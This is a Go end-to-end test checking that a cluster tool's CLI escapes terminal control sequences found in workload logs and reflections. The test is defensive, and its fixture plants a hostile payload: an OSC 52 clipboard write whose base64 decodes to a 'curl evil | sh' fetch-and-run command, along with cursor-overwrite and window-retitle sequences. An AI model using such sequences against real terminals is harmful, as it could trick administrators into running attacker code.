package e2e

import (
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/soulfra/calnet/client"
)

// escapesTemplate's workload writes terminal escape sequences where an
// administrator reads them: its log (standard output) and its reflection
// log (through its local API, with curl, once the console tier above
// it serves that API), then stays up.
const escapesTemplate = `name: escapes
description: writes terminal escape sequences to its log and reflections
permissions: [read]
tiers:
  "-10": [{name: identity, builtin: identity}]
  "-9": [{name: vault, builtin: vault}]
  "-8": [{name: reflection, builtin: reflection}]
  "-6": [{name: discovery, builtin: discovery}]
  "-5": [{name: mesh, builtin: mesh}]
  "-2": [{name: console, builtin: console}]
  "-3":
    - name: escapes
      command: [/usr/bin/bash, -c, "printf 'PLANTED \\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033[1A\\033[2Kall good\\r\\n'; for i in $(seq 100); do curl -sf --unix-socket /data/local.sock -H 'content-type: application/json' -d '{\"kind\":\"note\",\"text\":\"PLANTED \\u001b]0;pwned\\u0007\\u001b[2J\"}' http://cal/v1/reflections && break; sleep 0.1; done; echo; exec sleep infinity"]
      restart: never
  "0": [{name: gateway, builtin: gateway}]
`

// TestCLIEscapesWhatCalsWrite: what a Cal's workload writes reaches an
// administrator's terminal through calnet logs and calnet reflections.
// Before, an escape sequence in it was printed as it was, for the
// terminal to act on (write the clipboard with OSC 52, move the cursor
// up and overwrite a line, retitle the window); now every one is shown
// escaped (\x1b), in text and go-template output and in the raw log.
func TestCLIEscapesWhatCalsWrite(t *testing.T) {
	needRoot(t)
	n := up(t, filepath.Join(t.TempDir(), "data"))
	ctx := context.Background()
	sp, err := n.c.Spawn(ctx, client.SpawnRequest{Name: "escapes", TemplateYAML: escapesTemplate}, true)
	if err != nil || sp.State != "running" {
		t.Fatalf("spawn: %+v %v", sp, err)
	}
	var r, l result
	waitFor(t, "the workload's log line and reflection", 30*time.Second, func() bool {
		r, l = n.cli("reflections", sp.Cal), n.cli("logs", sp.Cal)
		return strings.Contains(r.stdout, "PLANTED") && strings.Contains(l.stdout, "PLANTED")
	}, func() { t.Logf("calnet reflections: %+v\ncalnet logs: %+v", r, l) })
	for _, args := range [][]string{
		{"logs", sp.Cal},
		{"logs", "--cal", sp.Cal},
		{"reflections", sp.Cal},
		{"reflections", sp.Cal, "-o", "go-template={{range .}}{{.text}}{{end}}"},
	} {
		r = n.cli(args...)
		if r.code != 0 || !strings.Contains(r.stdout, "PLANTED") {
			t.Fatalf("calnet %s: %+v", strings.Join(args, " "), r)
		}
		if i := strings.IndexAny(r.stdout, "\x1b\x07\r"); i >= 0 {
			t.Errorf("calnet %s printed a control character the terminal acts on at %d: %q", strings.Join(args, " "), i, r.stdout)
		}
		if !strings.Contains(r.stdout, `\x1b`) {
			t.Errorf("calnet %s: the escape is not shown escaped: %q", strings.Join(args, " "), r.stdout)
		}
	}
	// JSON keeps the text as written (encoded), for programs.
	r = n.cli("logs", sp.Cal, "-o", "json")
	if r.code != 0 || !strings.Contains(r.stdout, `\u001b]52;c;`) {
		t.Errorf("calnet logs -o json: %+v", r)
	}
}
